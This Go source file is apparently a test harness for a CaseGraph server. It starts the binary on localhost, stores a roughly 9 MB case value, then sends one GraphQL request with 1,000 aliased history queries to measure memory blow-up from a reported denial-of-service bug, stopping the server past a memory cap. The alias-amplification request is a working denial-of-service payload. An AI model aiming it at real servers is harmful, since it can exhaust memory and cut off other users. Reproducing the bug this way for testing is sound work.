// Command aliasattack measures a CaseGraph binary's peak memory under the
// alias attack of issue 14: a case whose file holds a ~9 MB value, then one
// GraphQL request with 1,000 aliases of case(id){history{type payload}}. It
// starts the binary itself on 127.0.0.1 in development mode with a fresh
// SQLite data directory, samples the process's RSS, and stops it when the
// RSS passes -cap (so a vulnerable build cannot exhaust the machine) or
// when -timeout passes. Nothing but 127.0.0.1 is contacted.
//
//	go run ./cmd/aliasattack -bin ./casegraph -model testdata/cases/incident.xml
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"
)

func main() {
	bin := flag.String("bin", "./casegraph", "casegraph binary to measure")
	model := flag.String("model", "testdata/cases/incident.xml", "the incident model")
	port := flag.Int("port", 28127, "port on 127.0.0.1")
	capMB := flag.Int("cap", 3000, "stop the server when its RSS passes this many MB")
	timeout := flag.Duration("timeout", 90*time.Second, "give up on the attack after this long")
	aliases := flag.Int("aliases", 1000, "aliases in the attack")
	valueMB := flag.Int("value-mb", 9, "size of the case file value in MB")
	flag.Parse()
	if err := run(*bin, *model, *port, *capMB, *timeout, *aliases, *valueMB); err != nil {
		fmt.Fprintln(os.Stderr, "aliasattack:", err)
		os.Exit(1)
	}
}

func run(bin, model string, port, capMB int, timeout time.Duration, aliases, valueMB int) error {
	dir, err := os.MkdirTemp("", "aliasattack")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	base := fmt.Sprintf("http://127.0.0.1:%d", port)
	cmd := exec.Command(bin, "serve", "--dev", "-addr", fmt.Sprintf("127.0.0.1:%d", port), "-data-dir", dir)
	cmd.Env = append(os.Environ(), "DATABASE_URL=", "CASEGRAPH_MAX_CASE_FILE_BYTES=33554432", "CASEGRAPH_LOG_LEVEL=error")
	cmd.Stderr = io.Discard
	if err := cmd.Start(); err != nil {
		return err
	}
	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
	token := func(user string) string {
		out, err := exec.Command(bin, "token", "-data-dir", dir, user).Output()
		if err != nil {
			panic(err)
		}
		return strings.TrimSpace(string(out))
	}
	for i := 0; ; i++ {
		if resp, err := http.Get(base + "/status"); err == nil {
			resp.Body.Close()
			break
		}
		if i > 100 {
			return fmt.Errorf("the server did not start")
		}
		time.Sleep(100 * time.Millisecond)
	}
	admin, alice := token("admin"), token("alice")
	do := func(method, path, tok, ctype string, body []byte) (int, []byte, error) {
		req, _ := http.NewRequest(method, base+path, bytes.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+tok)
		req.Header.Set("Content-Type", ctype)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return 0, nil, err
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, b, nil
	}
	js := func(v any) []byte { b, _ := json.Marshal(v); return b }
	xml, err := os.ReadFile(model)
	if err != nil {
		return err
	}
	steps := []struct {
		method, path, tok, ctype string
		body                     []byte
	}{
		{"POST", "/platform", admin, "application/json", js(map[string]any{"name": "acme", "users": []map[string]any{{"userId": "alice", "isOwner": true}}})},
		{"POST", "/repository/deploy/incident.xml?tenant=acme", alice, "application/xml", xml},
	}
	for _, s := range steps {
		if st, b, err := do(s.method, s.path, s.tok, s.ctype, s.body); err != nil || st >= 300 {
			return fmt.Errorf("%s %s: %d %s %v", s.method, s.path, st, b, err)
		}
	}
	st, b, err := do("POST", "/cases", alice, "application/json", js(map[string]any{"definition": "incident", "tenant": "acme",
		"inputs":   map[string]any{"Incident": map[string]any{"Title": "t", "Severity": 3}},
		"caseTeam": map[string]any{"users": []map[string]any{{"userId": "alice", "isOwner": true}}}}))
	if err != nil || st != 200 {
		return fmt.Errorf("start case: %d %s %v", st, b, err)
	}
	var started struct{ CaseInstanceID string }
	_ = json.Unmarshal(b, &started)
	id := started.CaseInstanceID
	value := strings.Repeat("x", valueMB<<20)
	if st, b, err := do("PUT", "/cases/"+id+"/casefile/update/Incident", alice, "application/json", js(map[string]any{"Title": value})); err != nil || st != 200 {
		return fmt.Errorf("big case file: %d %.200s %v", st, b, err)
	}
	idle := rssMB(cmd.Process.Pid)

	var q strings.Builder
	q.WriteString("{")
	for i := range aliases {
		fmt.Fprintf(&q, " a%d: case(id: %q) { history { type payload } }", i, id)
	}
	q.WriteString(" }")
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	type result struct {
		status int
		size   int
		head   string
		err    error
	}
	done := make(chan result, 1)
	start := time.Now()
	go func() {
		req, _ := http.NewRequestWithContext(ctx, "POST", base+"/graphql", bytes.NewReader(js(map[string]any{"query": q.String()})))
		req.Header.Set("Authorization", "Bearer "+alice)
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			done <- result{err: err}
			return
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		done <- result{status: resp.StatusCode, size: len(b), head: string(b[:min(len(b), 200)])}
	}()
	peak, killed := idle, false
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	var res result
	var otherUser time.Duration
wait:
	for {
		select {
		case res = <-done:
			break wait
		case <-tick.C:
			if m := rssMB(cmd.Process.Pid); m > peak {
				peak = m
			}
			if peak > capMB && !killed {
				killed = true
				_ = cmd.Process.Kill()
			}
			if otherUser == 0 && time.Since(start) > 500*time.Millisecond && !killed {
				t0 := time.Now()
				c := http.Client{Timeout: 5 * time.Second}
				if resp, err := c.Get(base + "/status"); err == nil {
					resp.Body.Close()
					otherUser = time.Since(t0)
				} else {
					otherUser = -1
				}
			}
		}
	}
	fmt.Printf("idle RSS after setup: %d MB\n", idle)
	fmt.Printf("peak RSS during the attack: %d MB%s\n", peak, map[bool]string{true: fmt.Sprintf(" (stopped at the %d MB cap)", capMB), false: ""}[killed])
	fmt.Printf("attack answer after %s: status %d, %d bytes, err %v: %s\n", time.Since(start).Round(time.Millisecond), res.status, res.size, res.err, res.head)
	fmt.Printf("another user's /status during the attack: %s\n", otherUser)
	return nil
}

// rssMB reads the process's resident set size from /proc.
func rssMB(pid int) int {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(line, "VmRSS:") {
			f := strings.Fields(line)
			kb, _ := strconv.Atoi(f[1])
			return kb / 1024
		}
	}
	return 0
}
